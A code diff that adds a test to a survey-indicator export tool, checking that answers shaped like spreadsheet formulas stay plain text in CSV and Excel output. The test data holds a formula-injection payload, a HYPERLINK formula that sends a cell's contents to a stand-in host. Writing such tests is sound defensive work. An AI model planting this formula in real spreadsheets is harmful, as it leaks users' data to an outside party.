@@ -503,3 +503,38 @@ def test_labels_are_in_english_by_default_and_other_languages_are_refused(
     assert rows["concern.gbv"]["label"] == "Names as a main security concern: Gender-based violence"
     status, _, err = run(files["csv"], "--indicators", INDICATORS_FILE, "--language", "fr")
     assert status == 2 and "--language" in err and "'fr'" in err
+
+
+def test_answers_that_look_like_formulas_stay_text_in_the_csv_and_the_workbook(
+    survey: pl.DataFrame, tmp_path: Path
+) -> None:
+    """A district answered ``=HYPERLINK(…)`` is a domain label in every output: the CSV
+    quotes it and the workbook stores it as text, never a formula."""
+    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    data = tmp_path / "evil.csv"
+    survey.with_columns(
+        pl.when(pl.col("district") == "district_1")
+        .then(pl.lit(evil))
+        .otherwise(pl.col("district"))
+        .alias("district")
+    ).write_csv(data)
+    status, out, err = run(
+        data, "--indicators", INDICATORS_FILE, "--by", "district", "--format", "csv"
+    )
+    assert status == 0, err
+    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
+    assert "'" + evil in cells and evil not in cells
+    target = tmp_path / "evil.xlsx"
+    status, _, err = run(
+        data, "--indicators", INDICATORS_FILE, "--by", "district", "--output", target
+    )
+    assert status == 0, err
+    workbook = load_workbook(target)
+    found = [
+        cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
+    ]
+    assert found and all(c.data_type == "s" and not c.value.startswith("=") for c in found)
